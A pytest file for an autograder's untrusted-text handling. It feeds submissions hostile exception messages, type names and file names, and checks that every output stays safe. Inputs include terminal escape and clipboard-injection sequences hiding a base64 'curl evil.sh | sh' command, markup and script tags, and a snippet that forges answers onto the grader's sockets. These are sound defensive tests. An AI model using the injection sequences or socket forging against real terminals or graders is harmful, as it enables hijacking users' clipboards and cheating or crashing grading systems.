"""Student text from real submissions, in the sandbox and through the command line.

Arbitrary text raised by a submission (its message, its exception's type name,
its own line of code), its name, and forged answers that a worker writes to
the grader's socket itself: every output stays written, valid, bounded and
free of escape and control characters, and `grade` exits 0. The regressions
are the failures measured on the engine before the text boundary
(autograder/untrusted.py) existed.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from autograder import course
from autograder.batch import plan
from autograder.course import Limits
from autograder.grade import grade
from autograder.report.table import print_result
from autograder.sandbox.protocol import pack, unpack
from autograder.submission import Submission
from tests.outputs import (PAGE_TAGS, assert_every_output_safe, assert_printable, injected_tags, link_count,
                           unescaped_markdown)
from tests.test_untrusted import NASTY, TEXT

AID = "03_affine"
ROOT = Path(__file__).resolve().parents[1]
SOLUTION = (ROOT / "solutions" / AID / "layers.py").read_text()
FORWARD = "test_affine_forward_matches_reference"
LIMITS = Limits(call_seconds=2.0, submission_seconds=30.0, cpu_seconds=5.0, memory_mb=512)


@pytest.fixture(scope="module")
def assignment():
    return dataclasses.replace(course.load(AID), limits=LIMITS)


def raising(message: str, kind: str, comment: str) -> str:
    """The solution, with an Affine.forward that raises `kind`(`message`) on a line ending in `# comment`."""
    return SOLUTION + (
        f"\n\n_Kind = type({kind!r}, (Exception,), {{}})\n"
        f"_MESSAGE = {message!r}\n"
        f"def _forward(self, x):\n"
        f"    raise _Kind(_MESSAGE)  # {comment}\n"
        f"Affine.forward = _forward\n")


def source_comment(text: str) -> str:
    """`text` as it can stand in a comment of a UTF-8 source file (no line end, no NUL, no surrogate)."""
    return "".join(c for c in text if c not in "\r\n\x00" and not 0xD800 <= ord(c) <= 0xDFFF)


# A type name may hold anything but NUL and surrogates (type() refuses those).
KINDS = st.one_of(st.sampled_from(["ValueError", "Evil\x1b[2J", "[/bold]", "<script>", "E" * 300]),
                  TEXT.map(lambda t: source_comment(t) or "E"))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(message=st.one_of(TEXT, st.sampled_from(NASTY).map(lambda p: p * 5000)), kind=KINDS, name=TEXT)
def test_any_text_a_submission_raises_leaves_every_output_valid(assignment, fork_server, message, kind, name):
    source = raising(message, kind, source_comment(message))
    result = grade(assignment, Submission(name, {"layers.py": source.encode()}), fork_server, only=(FORWARD,))
    (test,) = result.tests
    assert test.score == 0 and "Affine.forward raised" in test.output
    with tempfile.TemporaryDirectory() as folder:
        assert_every_output_safe(result, Path(folder), bound=60_000)


# ---------------------------------------------------------------- the command line, with any file names

def cli(*args, cwd=None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "COLUMNS": "120", "AUTOGRADER_LANG": "en"}
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], capture_output=True,
                          timeout=300, cwd=cwd, env=env)


def printed(run: subprocess.CompletedProcess) -> str:
    out = (run.stdout + run.stderr).decode("utf-8")  # strict: the console got valid UTF-8
    assert "\x1b" not in out  # not a terminal: rich adds no colour, so any ESC would be the student's
    assert_printable(out, "the terminal")
    return out


def assert_batch_outputs(folder: Path, students: int) -> None:
    rows = list(csv.reader(io.StringIO((folder / "grades.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert len(rows) == students + 1
    with sqlite3.connect(folder / "grades.db") as db:
        assert db.execute("SELECT COUNT(*) FROM submissions").fetchone() == (students,)
        for (output,) in db.execute("SELECT output FROM test_results"):
            assert_printable(output, "gradebook")
    pages = sorted((folder / "reports").iterdir())
    assert len(pages) == 2 * students + 2  # and index.html, index.md
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert_printable(text, page.name)
        if page.name == "index.html":  # a link per student, and nothing a name could inject
            assert not injected_tags(text, PAGE_TAGS | {"a"}) and link_count(text) == students
        elif page.suffix == ".html":
            assert not injected_tags(text)
        else:
            assert "<" not in unescaped_markdown(text)
    results = sorted((folder / "json").iterdir())
    assert len(results) == students
    for path in results:
        json.loads(path.read_text(encoding="utf-8"))


def batch(folder: Path) -> subprocess.CompletedProcess:
    return cli("grade", "--assignment", AID, folder / "in", "--batch", "--gradebook", folder / "grades.db",
               "--csv", folder / "grades.csv", "--reports", folder / "reports", "--out", folder / "json")


FILE_NAME = st.lists(st.one_of(st.binary(min_size=1, max_size=12), st.sampled_from(
    [p.encode("utf-8", "surrogatepass") for p in NASTY])), min_size=1, max_size=8).map(b"".join).map(
    lambda raw: raw.replace(b"/", b"_").replace(b"\0", b"_")[:200]).filter(lambda raw: not raw.startswith((b".", b"__")))


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(FILE_NAME, min_size=2, max_size=2, unique=True), message=TEXT)
def test_any_file_names_in_a_batch_leave_every_output_valid_and_exit_0(names, message):
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        (folder / "in").mkdir()
        honest, hostile = (folder / "in" / os.fsdecode(raw + b".py") for raw in names)
        honest.write_text(SOLUTION)
        hostile.write_text(f"raise ImportError({message!r})\n")
        one_student = bool(plan(folder / "in").duplicates)  # two names that clean to one student's
        run = batch(folder)
        printed(run)
        if one_student:  # refused before grading, in a sentence that is safe to print
            assert run.returncode == 2 and not (folder / "grades.db").exists()
            return
        assert run.returncode == 0
        assert_batch_outputs(folder, 2)


# ---------------------------------------------------------------- what failed before, one by one

def test_markup_in_an_import_error_is_printed_not_parsed(tmp_path):
    (tmp_path / "layers.py").write_text('raise ImportError("[/bold] closes nothing [link=https://x]y[/link]")\n')
    run = cli("grade", "--assignment", AID, tmp_path / "layers.py", "--out", tmp_path / "results.json")
    assert run.returncode == 0, run.stderr.decode()
    assert "[/bold] closes nothing" in " ".join(printed(run).split())
    assert "[/bold]" in json.loads((tmp_path / "results.json").read_text())["tests"][0]["output"]


def test_markup_in_a_batch_still_writes_the_csv_and_every_report(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "kim.py").write_text(SOLUTION)
    (tmp_path / "in" / "lee[red]x.py").write_text('raise ImportError("[/bold]")\n')
    run = batch(tmp_path)
    assert run.returncode == 0, run.stderr.decode()
    printed(run)
    assert_batch_outputs(tmp_path, 2)
    report = cli("report", tmp_path / "grades.db", "--out", tmp_path / "class")  # the class report, too
    assert report.returncode == 0, report.stderr.decode()
    printed(report)
    page = (tmp_path / "class" / "class_report.html").read_text(encoding="utf-8")
    assert_printable(page, "class report")
    assert not injected_tags(page)


def test_a_lone_surrogate_in_a_message_still_writes_results_json(tmp_path):
    (tmp_path / "layers.py").write_text('raise ValueError("half a pair: \\ud800")\n')
    run = cli("grade", "--assignment", AID, tmp_path / "layers.py", "--out", tmp_path / "results.json")
    assert run.returncode == 0, run.stderr.decode()
    output = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))["tests"][0]["output"]
    assert "half a pair: \ufffd" in output


def test_clear_screen_osc52_and_a_fake_passed_line_never_reach_the_terminal(assignment, fork_server):
    evil = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\rtest_affine_forward passed 2/2"
    source = raising(evil, "ValueError", "x")
    result = grade(assignment, Submission("kim\x1b[2J", {"layers.py": source.encode()}), fork_server, only=(FORWARD,))
    out = io.StringIO()
    from rich.console import Console
    print_result(result, Console(file=out, width=200, force_terminal=True))  # a real terminal: rich styles
    shown = out.getvalue()
    for sequence in ("\x1b[2J", "\x1b[H", "\x1b]52", "Y3VybCBldmlsLnNo", "\r"):
        assert sequence not in shown
    assert "test_affine_forward passed" in shown  # as visible text, on the failed row, not over another line


FORGE = '''
def _forge(header):
    """Write an answer of our own making to every stream socket we hold, then leave."""
    import os, socket, json, struct
    head = header if isinstance(header, bytes) else json.dumps(header).encode()
    body = struct.pack(">I", len(head)) + head
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.type == socket.SOCK_STREAM:
                s.sendall(struct.pack(">Q", len(body)) + body)
        except OSError:
            pass
    os._exit(0)


def _backward(self, dout):
    _forge({HEADER})
Affine.backward = _backward
'''


@pytest.mark.parametrize("header", [
    '{"value": {"$ref": 1, "type": "A" * (128 * 1024), "callable": False}, "blobs": []}',
    'b\'{"value": \' + b"[" * 200000 + b"]" * 200000 + b\', "blobs": []}\'',
], ids=["128 KiB type name", "nested 200000 deep"])
def test_a_forged_answer_is_bounded_fast_and_costs_only_its_tests(assignment, fork_server, header):
    source = SOLUTION + FORGE.replace("{HEADER}", header)
    started = time.monotonic()
    result = grade(assignment, Submission("forger", {"layers.py": source.encode()}), fork_server)
    assert time.monotonic() - started < 20
    forward = [t for t in result.tests if t.name in (FORWARD, "test_affine_forward_adds_the_bias_to_every_row")]
    assert forward and all(t.passed for t in forward)  # the worker was replaced, not kept: these still run
    assert any("invalid answer" in t.output for t in result.tests)
    assert not any("importing" in t.output for t in result.tests)
    assert max(len(t.output) for t in result.tests) < 1000
    started = time.monotonic()
    out = io.StringIO()
    from rich.console import Console
    print_result(result, Console(file=out, width=120))
    assert time.monotonic() - started < 2 and len(out.getvalue()) < 50_000


class _ForgingWorker:
    """A real worker whose answer to the first call of the run is replaced by `forged`, and which then dies."""

    def __init__(self, sandbox: "_ForgingSandbox", real):
        self.sandbox, self.real, self.deadline = sandbox, real, float("inf")

    def exchange(self, message: bytes, seconds: float | None = None) -> bytes:
        self.real.deadline = self.deadline
        answer = self.real.exchange(message, seconds)
        if not self.sandbox.forged_once and unpack(message[8:])[0].get("op") != "load":
            self.sandbox.forged_once = True
            self.real.kill()  # as a worker that wrote its own answer and exited
            return self.sandbox.forged
        return answer

    def close(self) -> None:
        self.real.close()


class _ForgingSandbox:
    def __init__(self, server, forged: bytes):
        self.server, self.forged, self.forged_once = server, forged, False

    @property
    def protections(self):
        return self.server.protections

    def start(self, limits):
        return _ForgingWorker(self, self.server.start(limits))


@pytest.mark.parametrize("forged", [
    b'{"value": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    b'{"value": ' + b"9" * 5000 + b"}",
    pack({"value": {"$ref": 1, "type": "A" * (4 << 20)}}, [])[12:],
], ids=["nested 200000 deep", "a number of 5000 digits", "4 MiB type name"])
def test_after_a_bad_answer_the_next_test_gets_a_fresh_worker(assignment, fork_server, forged):
    sandbox = _ForgingSandbox(fork_server, len(forged).to_bytes(4, "big") + forged)
    result = grade(assignment, Submission("kim", {"layers.py": SOLUTION.encode()}), sandbox)
    first, *rest = result.tests
    assert not first.passed and "invalid answer" in first.output
    assert all(t.passed for t in rest), [t.output for t in rest if not t.passed]


# ---------------------------------------------------------------- hidden inputs in hidden feedback

def test_hidden_feedback_keeps_the_words_of_a_students_message_but_not_its_numbers(assignment, fork_server):
    source = SOLUTION + ("\n\ndef _forward(self, x):\n"
                         "    raise ValueError(f'x was {x.tolist()} with shape {x.shape}')\n"
                         "Affine.forward = _forward\n")
    result = grade(assignment, Submission("kim", {"layers.py": source.encode()}), fork_server, only=(FORWARD,))
    (test,) = result.tests
    message = test.output.split("ValueError: ", 1)[1].split(" (layers.py", 1)[0]
    assert message.startswith("x was [[…") and "with shape (…, …)" in message
    assert not any(c.isdigit() for c in message)
    assert "raise ValueError(f'x was {x.tolist()} with shape {x.shape}')" in test.output  # the student's line


def test_an_import_error_keeps_its_numbers(assignment, fork_server):
    result = grade(assignment, Submission("kim", {"layers.py": b"raise ValueError('need numpy 1.24')\n"}),
                   fork_server, only=(FORWARD,))
    assert "need numpy 1.24" in result.tests[0].output



def test_check_shows_a_students_own_numbers_but_none_of_their_escapes(tmp_path):
    from autograder.assign import release

    for name, data in release.students_tree([course.load(AID)]).items():
        if name.startswith(f"students/{AID}/"):
            path = tmp_path / name.split("/", 2)[2]
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    (tmp_path / "layers.py").write_text(SOLUTION + (
        "\n\n_EVIL = '\\x1b[2J\\x1b]52;c;cGF5bG9hZA==\\x07[/bold] x has shape '\n"
        "def _forward(self, x):\n"
        "    raise ValueError(_EVIL + str(x.shape))\n"
        "Affine.forward = _forward\n"), encoding="utf-8")
    run = subprocess.run([sys.executable, "-m", "autograder", "check"], cwd=tmp_path, capture_output=True,
                         timeout=300, env={**os.environ, "AUTOGRADER_LANG": "en", "PYTHONIOENCODING": "utf-8"})
    shown = printed(run)
    assert run.returncode == 1
    assert "cGF5bG9hZA" not in shown
    assert "[/bold] x has shape (" in shown and any(c.isdigit() for c in shown.split("x has shape (", 1)[1][:4])
